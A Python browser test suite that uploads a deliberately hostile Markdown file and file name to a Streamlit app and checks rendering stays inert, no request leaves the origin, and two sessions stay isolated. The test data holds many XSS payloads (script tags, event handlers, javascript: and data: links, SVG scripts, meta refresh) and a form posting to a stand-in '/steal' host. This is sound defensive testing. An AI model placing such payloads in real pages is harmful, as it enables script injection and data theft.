"""Hostile documents and two people at once, in a real browser (the system Chromium).

* A Markdown file full of attacks (scripts, frames, event handlers, ``javascript:`` and ``data:``
  URLs, objects, forms, meta refresh, external style sheets and images, CSS overlays, ``<base>``)
  is uploaded through the real file input. Nothing may run (no dialog, no marker set by a
  script, in any frame), no request may leave the app's own origin, no element in the rendered
  document may come from the document's markup, and the text after the attacks must be visible
  where it is drawn (no overlay covers it).
* A file name and a query set carrying Markdown images reach error messages: no request either.
* Two browser contexts (two sessions) against one app never see each other's uploads, rendered
  text, questions or query sets.

Without /usr/bin/chromium the tests are skipped, except under ``CI=true``, where they fail.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.browser_util import (
    require_chromium,
    screenshot,
    wait_for_app,
    wait_idle,
)
from ui import render

pytestmark = pytest.mark.browser

require_chromium()

OUTSIDE = "203.0.113.1"  # TEST-NET-3: never routed, and every request to it is aborted anyway
PWN = "window.__pwned=1"
SVG_WITH_SCRIPT = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script></svg>'.encode()
).decode()
AFTER = "This closing sentence must stay visible after every attack above."

HOSTILE = f"""# Hostile document

An opening paragraph that is plain prose.

<script>alert('script');{PWN}</script>

<iframe src="https://example.com/"></iframe>

<iframe srcdoc="<script>parent.{PWN};alert('srcdoc')</script>"></iframe>

<img src=x onerror="alert('img');{PWN}">

<svg onload="alert('svg');{PWN}"><circle r="4"/></svg>

<object data="http://{OUTSIDE}/x.swf"></object>

<embed src="http://{OUTSIDE}/x.swf">

<form action="http://{OUTSIDE}/steal" method="post"><input name=q autofocus onfocus="{PWN}">
<button formaction="javascript:{PWN}">Send</button></form>

<meta http-equiv="refresh" content="0;url=http://{OUTSIDE}/">

<link rel=stylesheet href="http://{OUTSIDE}/x.css">

<base href="http://{OUTSIDE}/">

<style>
@import url(http://{OUTSIDE}/import.css);
body {{ display: none !important; }}
.ce-doc p {{ visibility: hidden; }}
div {{ position: fixed; inset: 0; z-index: 9999; background: url(http://{OUTSIDE}/bg.png); }}
</style>

<div style="position:fixed;inset:0;z-index:9999;background:white">an overlay</div>

Inline HTML: <b onmouseover="{PWN}">bold</b>, <span style="position:fixed;inset:0;z-index:9999;
background:red">covering span</span>, <a href="javascript:{PWN}">js anchor</a>,
<a href="data:text/html,<script>{PWN}</script>">data anchor</a> and <img src=x onerror={PWN}>.

Markdown links and images: [a js link](javascript:alert('link')),
[a spaced js link]( java	script:alert(1) ), [a data link](data:text/html;base64,PHNjcmlwdD4=),
[a vbscript link](vbscript:msgbox(1)), <javascript:alert('autolink')>,
![an svg with a script](data:image/svg+xml;base64,{SVG_WITH_SCRIPT}),
![an external image](http://{OUTSIDE}/x.png) and ![a relative image](x.png "t\\" onerror=\\"{PWN}").

[ref]: javascript:alert('reference')

A [reference link][ref] and an entity-encoded one
[enc](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)).

> <script>{PWN}</script> in a quote

- <img src=x onerror={PWN}> in a list

| a | b |
|---|---|
| <script>{PWN}</script> | <svg onload={PWN}> |

{AFTER}
"""

FORBIDDEN_TAGS = (
    "script, iframe, frame, object, embed, img, svg, math, video, audio, source, form, input, "
    "button, textarea, select, meta, base, link"
)


# --------------------------------------------------------------------------- fixtures


class Session:
    """One browser context (one Streamlit session): its page, and every request, dialog and
    socket it made. Requests to any origin but the app's are recorded and aborted."""

    def __init__(self, chromium: Any, app_url: str) -> None:
        self.origin = app_url
        self.context = chromium.new_context(viewport={"width": 1500, "height": 1000})
        self.requests: list[str] = []
        self.outside: list[str] = []
        self.dialogs: list[str] = []
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("websocket", lambda ws: self.requests.append(ws.url))
        self.page.goto(app_url)
        wait_for_app(self.page)

    def _route(self, route: Any) -> None:
        if self.local(route.request.url):
            route.continue_()
        else:
            self.outside.append(route.request.url)
            route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def local(self, url: str) -> bool:
        """The app's own origin (http or its websocket), or data/blob URLs that stay in page."""
        parts = urlsplit(url)
        if parts.scheme in ("data", "blob", "about"):
            return True
        return parts.netloc == urlsplit(self.origin).netloc and parts.scheme in (
            "http",
            "ws",
        )

    def leaving(self) -> list[str]:
        return sorted({u for u in [*self.requests, *self.outside] if not self.local(u)})

    def upload(self, name: str, data: bytes, *, wait_for: str | None) -> None:
        box = self.page.locator('.st-key-upload input[type="file"]').first
        box.set_input_files({"name": name, "mimeType": "text/markdown", "buffer": data})
        if wait_for is not None:
            self.page.wait_for_function(
                """(t) => [...document.querySelectorAll('.ce-doc')].some(
                    d => d.textContent.includes(t))""",
                arg=wait_for,
                timeout=60_000,
            )
        wait_idle(self.page)

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def session(chromium: Any, app_url: str) -> Iterator[Session]:
    s = Session(chromium, app_url)
    yield s
    s.close()


def pwned(page: Any) -> list[str]:
    """Frames in which a script set the marker (frames we cannot enter count as clean: a
    cross-origin frame would itself be a finding of the request check)."""
    found = []
    for frame in page.frames:
        try:
            if frame.evaluate("() => typeof window.__pwned !== 'undefined'"):
                found.append(frame.url)
        except Exception:  # a detached or cross-origin frame
            continue
    return found


def document_findings(page: Any) -> dict[str, list[str]]:
    """Everything in the rendered document that the renderer did not write itself."""
    return dict(
        page.evaluate(
            """([forbidden, css]) => {
            const all = [...document.querySelectorAll('.ce-doc, .ce-doc *')];
            const handlers = all.flatMap(el => [...el.attributes]
                .filter(a => a.name.toLowerCase().startsWith('on'))
                .map(a => `${el.tagName} ${a.name}`));
            const urls = all.flatMap(el => ['href', 'src', 'action', 'formaction', 'xlink:href',
                    'data', 'srcset', 'poster', 'background']
                .map(n => el.getAttribute(n)).filter(v => v !== null)
                .filter(v => !/^(https?:|mailto:|#|[^:]*$)/i.test(
                    v.replace(/[\\s\\x00-\\x1f]/g, '')))
                .map(v => `${el.tagName} ${v}`));
            const tags = [...document.querySelectorAll('.ce-doc')]
                .flatMap(d => [...d.querySelectorAll(forbidden)]).map(el => el.tagName);
            const styles = [...document.querySelectorAll('.ce-doc style')]
                .filter(s => s.textContent !== css
                    || !s.parentElement.classList.contains('ce-doc'))
                .map(s => s.textContent.slice(0, 80));
            const positioned = all.filter(el => ['fixed', 'absolute', 'sticky']
                    .includes(getComputedStyle(el).position)
                    && !el.classList.contains('ce-mark-label'))
                .map(el => `${el.tagName}.${el.className}`);
            return {handlers, urls, tags, styles, positioned};
        }""",
            [FORBIDDEN_TAGS, render.CSS.replace("\n", "")],
        )
    )


def visible_at_its_place(page: Any, text: str) -> bool:
    """``text`` is shown, and the element drawn at its centre is the one holding it."""
    target = page.locator(".ce-doc p", has_text=text).first
    target.scroll_into_view_if_needed()
    if not target.is_visible():
        return False
    return bool(
        target.evaluate(
            """(el) => {
            const r = el.getBoundingClientRect();
            const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
            return hit !== null && (hit === el || el.contains(hit));
        }"""
        )
    )


# --------------------------------------------------------------------------- hostile document


def test_a_hostile_markdown_upload_stays_inert(session: Session) -> None:
    page = session.page
    session.upload("hostile.md", HOSTILE.encode(), wait_for="Hostile document")
    page.wait_for_timeout(1500)  # time for anything that would fire (a refresh, an onload)
    screenshot(page, "hostile-1-document.png")

    assert session.dialogs == []
    assert pwned(page) == []
    assert session.leaving() == [], "requests left the app's origin"
    assert session.outside == []
    # no refresh, no navigation (the app keeps its view's link in the query string)
    assert page.url.split("?", 1)[0].rstrip("/") == session.origin
    findings = document_findings(page)
    assert findings == {"handlers": [], "urls": [], "tags": [], "styles": [], "positioned": []}
    # the markup is there to read, as text
    text = page.locator(".ce-doc").first.inner_text()
    for shown in ("<script>alert('script');", "<iframe srcdoc=", "<meta http-equiv=", PWN):
        assert shown in text
    assert visible_at_its_place(page, AFTER)
    view = page.locator('[class*="st-key-doc_view"]').first
    view.screenshot(path=str(screenshot_dir() / "hostile-2-end-of-document.png"))
    assert visible_at_its_place(page, "An opening paragraph that is plain prose.")
    # safe links stay links; unsafe ones lose their target but keep their text
    assert page.locator(".ce-doc a[href]").count() == 0
    assert page.locator(".ce-doc a:not([href])", has_text="a js link").count() == 1


def screenshot_dir() -> Any:
    from tests.browser_util import ARTIFACTS

    ARTIFACTS.mkdir(exist_ok=True)
    return ARTIFACTS


def test_a_hostile_file_name_in_an_error_message_stays_text(session: Session) -> None:
    page = session.page
    name = f"![x](http://{OUTSIDE}/name.png)<img src=x onerror={PWN}>[js](javascript:{PWN}).md"
    session.upload(name, b"", wait_for=None)  # empty: refused, with the name in the message
    alert = page.locator('[data-testid="stAlert"]').filter(has_text="the file is empty")
    alert.first.wait_for(timeout=30_000)
    page.wait_for_timeout(1000)
    shown = alert.first.inner_text().replace("\u2060", "")  # the joiner that stops autolinks
    assert f"http://{OUTSIDE}/name.png" in shown and "onerror" in shown  # as text
    assert alert.first.locator("img, svg, a[href^='javascript'], a[href]").count() == 0
    assert session.dialogs == [] and pwned(page) == []
    assert session.leaving() == []


# --------------------------------------------------------------------------- two sessions


def doc_text(page: Any) -> str:
    return str(page.locator(".ce-doc").first.inner_text())


def sources(page: Any) -> str:
    """The document picker's current value and every option it offers."""
    box = page.get_by_role("combobox", name="Document", exact=True)
    box.click()
    options = page.get_by_role("option").all_inner_texts()
    page.keyboard.press("Escape")
    wait_idle(page)
    return "\n".join([str(box.input_value()), *options])


def ask(page: Any, question: str) -> None:
    box = page.get_by_label("Question", exact=True)
    box.fill(question)
    box.press("Enter")
    wait_idle(page)


def test_two_sessions_never_see_each_others_documents(chromium: Any, app_url: str) -> None:
    a, b = Session(chromium, app_url), Session(chromium, app_url)
    try:
        mark_a, mark_b = "ALPHA-7f3c-only-in-session-A", "BRAVO-91d2-only-in-session-B"
        doc_a = f"# Notes of A\n\nThe secret of A is {mark_a}.\n\nMore text of A.\n"
        doc_b = f"# Notes of B\n\nThe secret of B is {mark_b}.\n\nMore text of B.\n"
        a.upload("notes.md", doc_a.encode(), wait_for=mark_a)
        b.upload("notes.md", doc_b.encode(), wait_for=mark_b)  # the same file name
        ask(a.page, f"what is {mark_a}?")
        ask(b.page, f"what is {mark_b}?")
        for _ in range(2):  # and again after both have rerun
            for me, mine, theirs in ((a, mark_a, mark_b), (b, mark_b, mark_a)):
                page = me.page
                assert mine in doc_text(page) and theirs not in doc_text(page)
                assert theirs not in page.locator('[data-testid="stMain"]').inner_text()
                assert theirs not in sources(page)
                assert page.get_by_label("Question", exact=True).input_value() == f"what is {mine}?"
            for me in (a, b):
                rerun(me.page)
        screenshot(a.page, "sessions-a.png")
        screenshot(b.page, "sessions-b.png")
    finally:
        a.close()
        b.close()


def rerun(page: Any) -> None:
    """Streamlit's "r" shortcut (with the focus on no input): run the script again."""
    page.locator("h1").first.click()
    page.keyboard.press("r")
    wait_idle(page)


def downloaded_query_set(page: Any) -> list[dict[str, Any]]:
    """The query set as the page's download button hands it out (the editor is a canvas)."""
    with page.expect_download() as info:
        page.get_by_role("button", name="Download the query set (JSON)").click()
    return list(json.loads(info.value.path().read_text(encoding="utf-8")))


def open_query_set_tab(page: Any) -> None:
    page.get_by_role("tab", name="Query set").click()
    wait_idle(page)


def test_two_sessions_keep_their_own_query_sets(chromium: Any, app_url: str) -> None:
    a, b = Session(chromium, app_url), Session(chromium, app_url)
    try:
        for me, tag in ((a, "ALPHA"), (b, "BRAVO")):
            own = [
                {
                    "id": f"{tag}-q1",
                    "doc": "refund-policy.md",
                    "query": f"Question only {tag} asked?",
                    "evidence": ["refund"],
                }
            ]
            me.page.goto(f"{me.origin}/evaluate")
            me.page.wait_for_selector('[data-testid="stApp"]')
            wait_idle(me.page)
            open_query_set_tab(me.page)
            box = me.page.locator('.st-key-qs_upload input[type="file"]').first
            box.set_input_files(
                {
                    "name": f"{tag}.json",
                    "mimeType": "application/json",
                    "buffer": json.dumps(own).encode(),
                }
            )
            me.page.get_by_text("Loaded 1 question", exact=False).wait_for(timeout=30_000)
            wait_idle(me.page)
        for _ in range(2):  # and again after both have rerun
            for me, mine, theirs in ((a, "ALPHA", "BRAVO"), (b, "BRAVO", "ALPHA")):
                got = downloaded_query_set(me.page)
                assert [q["id"] for q in got] == [f"{mine}-q1"]
                assert theirs not in json.dumps(got)
                assert theirs not in me.page.locator('[data-testid="stApp"]').inner_text()
            for me in (a, b):
                rerun(me.page)
                open_query_set_tab(me.page)
        screenshot(b.page, "sessions-b-query-set.png")
    finally:
        a.close()
        b.close()
